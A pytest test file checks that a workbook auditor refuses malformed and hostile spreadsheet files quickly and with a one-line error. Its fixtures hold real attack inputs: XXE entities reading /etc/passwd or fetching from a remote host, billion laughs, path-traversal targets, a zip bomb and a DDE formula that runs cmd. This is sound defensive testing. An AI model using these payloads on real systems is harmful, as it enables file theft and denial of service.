"""Files that are no workbooks, broken ones and hostile ones: one clear line each, and soon."""

from __future__ import annotations

import struct
import zipfile
from pathlib import Path
from time import process_time

import pytest
from xlsxwriter import Workbook

from gradbook.audit.check import check_book

SOON = 2.0  # seconds

TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
BOOK = (
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="{title}" sheetId="1" r:id="rId1"/></sheets>{more}</workbook>'
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="{target}" {mode}/></Relationships>'
)
SHEET = "<worksheet><sheetData>{rows}</sheetData></worksheet>"


def package(path: Path, **parts: str | bytes) -> Path:
    """A workbook of these parts; what is not given is plain."""
    given = {
        "content": TYPES,
        "book": BOOK.format(title="S", more=""),
        "relations": RELATIONS.format(target="worksheets/sheet1.xml", mode=""),
        "sheet": SHEET.format(rows=""),
        **parts,
    }
    names = {
        "content": "[Content_Types].xml",
        "book": "xl/workbook.xml",
        "relations": "xl/_rels/workbook.xml.rels",
        "sheet": "xl/worksheets/sheet1.xml",
        "strings": "xl/sharedStrings.xml",
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in given.items():
            if content:
                archive.writestr(names.get(name, name), content)
    return path


def formula(text: str) -> str:
    return SHEET.format(rows=f'<row r="1"><c r="A1"><f>{text}</f><v>0</v></c></row>')


def written(path: Path, *cells: tuple[str, object]) -> Path:
    with Workbook(str(path)) as book:
        sheet = book.add_worksheet()
        for place, content in cells:
            sheet.write(place, content)
    return path


ENTITY = "<!DOCTYPE x [<!ENTITY {what}>]>"

NOT_WORKBOOKS = {
    "empty": b"",
    "text": b"w1,w2\n0.1,0.2\n",
    "html": b"<html><script>alert(1)</script></html>",
    "half a zip": b"PK\x03\x04" + b"\0" * 40,
    "a zip's end only": b"PK\x05\x06" + b"\0" * 18,
    "old xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "encrypted": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16le"),
    "png": b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
    "pdf": b"%PDF-1.7\n",
    "gzip": b"\x1f\x8b\x08\0" + b"\0" * 20,
    "nul bytes": b"\0" * 4096,
    "utf-16": "=1+1".encode("utf-16"),
    "seven zip": b"7z\xbc\xaf\x27\x1c" + b"\0" * 26,
    "a zip with a wild directory": b"PK\x05\x06"
    + struct.pack("<4H2LH", 0, 0, 9, 9, 99999, 99999, 0),
}

PACKAGES = {
    "no book": {"book": ""},
    "no relations": {"relations": ""},
    "no sheet": {"sheet": ""},
    "sheet elsewhere": {"relations": RELATIONS.format(target="../../../etc/passwd", mode="")},
    "sheet absolute": {"relations": RELATIONS.format(target="/etc/passwd", mode="")},
    "sheet on the net": {
        "relations": RELATIONS.format(target="http://192.0.2.1/s.xml", mode='TargetMode="External"')
    },
    "sheet as a file address": {
        "relations": RELATIONS.format(target="file:///etc/passwd", mode="")
    },
    "entity in the book": {"book": ENTITY.format(what='a "b"') + BOOK.format(title="&a;", more="")},
    "external entity": {
        "sheet": ENTITY.format(what='a SYSTEM "file:///etc/passwd"') + SHEET.format(rows="&a;")
    },
    "entity from the net": {
        "sheet": ENTITY.format(what='a SYSTEM "http://192.0.2.1/x"') + SHEET.format(rows="&a;")
    },
    "parameter entity": {
        "sheet": ENTITY.format(what='% a SYSTEM "http://192.0.2.1/x"') + SHEET.format(rows="")
    },
    "billion laughs": {
        "sheet": "<!DOCTYPE x ["
        + "".join(f'<!ENTITY l{k} "{f"&l{k - 1};" * 10}">' for k in range(1, 12))
        + "]>"
        + SHEET.format(rows="&l11;")
    },
    "a document type alone": {"sheet": "<!DOCTYPE x>" + SHEET.format(rows="")},
    "cut off": {"sheet": "<worksheet><sheetData><row r='1'><c r='A1'>"},
    "no XML": {"sheet": "w1 w2 w3"},
    "binary": {"sheet": b"\x83\x01\x00\x81\x01\x00" * 50},
    "bad encoding": {"sheet": b"<worksheet>\xff\xfe</worksheet>"},
    "unknown encoding": {"sheet": b'<?xml version="1.0" encoding="x-nope"?><worksheet/>'},
    "wrong root in the book": {"book": "<html/>"},
    "deep XML": {"sheet": "<a>" * 5000 + "</a>" * 5000},
    "binary workbook": {"book": "", "xl/workbook.bin": b"\x83\x01"},
    "open document": {
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": "<x/>",
    },
    "encrypted package": {"EncryptedPackage": b"\0" * 64},
    "a cell beyond the sheet": {
        "sheet": SHEET.format(rows='<row r="1"><c r="ZZZ9999999"><v>1</v></c></row>')
    },
    "zip bomb": {"sheet": b"<worksheet>" + b" " * 60_000_000},
    "bomb of strings": {"strings": "<sst>" + "<si><t>a</t></si>" * 300_000 + "</sst>"},
    "a million cells": {
        "sheet": SHEET.format(
            rows="".join(f'<row r="{r}"><c r="A{r}"><v>1</v></c></row>' for r in range(1, 260_000))
        )
    },
}

ODD = {
    "no cells": SHEET.format(rows=""),
    "row without a number": SHEET.format(rows="<row><c><v>1</v></c></row>"),
    "row zero": SHEET.format(rows='<row r="0"><c r="A1"><v>1</v></c></row>'),
    "row of letters": SHEET.format(rows='<row r="x"><c r="A1"><v>1</v></c></row>'),
    "string out of range": SHEET.format(rows='<row r="1"><c r="A1" t="s"><v>99</v></c></row>'),
    "string of letters": SHEET.format(rows='<row r="1"><c r="A1" t="s"><v>x</v></c></row>'),
    "style out of range": SHEET.format(rows='<row r="1"><c r="A1" s="99999"><v>1</v></c></row>'),
    "unknown type": SHEET.format(rows='<row r="1"><c r="A1" t="zz"><v>1</v></c></row>'),
    "shared without a master": SHEET.format(
        rows='<row r="1"><c r="A1"><f t="shared" si="7"/><v>1</v></c></row>'
    ),
    "array without a range": SHEET.format(
        rows='<row r="1"><c r="A1"><f t="array">1+1</f></c></row>'
    ),
    "array over everything": SHEET.format(
        rows='<row r="1"><c r="A1"><f t="array" ref="A1:XFD1048576">1+1</f></c></row>'
    ),
    "data table": SHEET.format(
        rows='<row r="1"><c r="A1"><f t="dataTable" ref="A1:B9" r1="C1"/><v>1</v></c></row>'
    ),
    "no formula in f": formula(""),
    "only an equals sign": formula("="),
    "half a formula": formula("1+"),
    "deep parentheses": formula("(" * 8192 + "1" + ")" * 8192),
    "deep signs": formula("-" * 8000 + "1"),
    "deep calls": formula("ABS(" * 2000 + "1" + ")" * 2000),
    "long formula": formula("+".join(["A2"] * 11_000)),
    "long sum": formula("+".join(["A2"] * 2500)),
    "whole column": formula("SUM(A:A)"),
    "whole sheet": formula("SUM(B1:XFD1048576)"),
    "another workbook": formula("[1]Other!A1+1"),
    "a path to one": formula("'C:\\secret\\[x.xlsx]S'!A1"),
    "asks the net": formula('WEBSERVICE("http://192.0.2.1/")'),
    "runs a program": formula("cmd|'/c calc'!A1"),
    "refers to itself": formula("A1+1"),
    "errors": formula("#REF!+#N/A"),
    "unknown function": formula("LAMBDA(x,x+1)(2)"),
    "unclosed text": formula('"abc'),
    "control characters": formula("1+&#1;"),
}


@pytest.mark.parametrize("name", NOT_WORKBOOKS)
def test_what_is_no_workbook_is_refused_in_a_line(name, tmp_path):
    path = tmp_path / "book.xlsx"
    path.write_bytes(NOT_WORKBOOKS[name])
    _is_refused(path)


@pytest.mark.parametrize("name", PACKAGES)
def test_a_hostile_package_is_refused_in_a_line(name, tmp_path):
    _is_refused(package(tmp_path / "book.xlsx", **PACKAGES[name]))


@pytest.mark.parametrize("name", ODD)
def test_an_odd_sheet_stops_nothing(name, tmp_path):
    begun = process_time()
    report = check_book(package(tmp_path / "book.xlsx", sheet=ODD[name]))
    assert report.verdict in ("no network", "unreadable")
    assert "\n" not in report.problem
    assert process_time() - begun < SOON


def _is_refused(path):
    begun = process_time()
    report = check_book(path)
    assert report.verdict == "unreadable"
    assert report.problem
    assert len(report.problem.splitlines()) == 1
    assert process_time() - begun < SOON


def test_a_missing_file_is_one_line(tmp_path):
    report = check_book(tmp_path / "none.xlsx")
    assert report.verdict == "unreadable"
    assert "there is no" in report.problem


def test_a_folder_is_one_line(tmp_path):
    assert check_book(tmp_path).verdict == "unreadable"


def test_cells_that_go_round_in_a_circle_end(tmp_path):
    path = written(
        tmp_path / "book.xlsx",
        *((f"A{k}", f"=A{k % 500 + 1}-0.1*B{k}") for k in range(1, 501)),
        *((f"B{k}", f"=A{k}^2") for k in range(1, 501)),
    )
    begun = process_time()
    assert check_book(path).verdict
    assert process_time() - begun < SOON
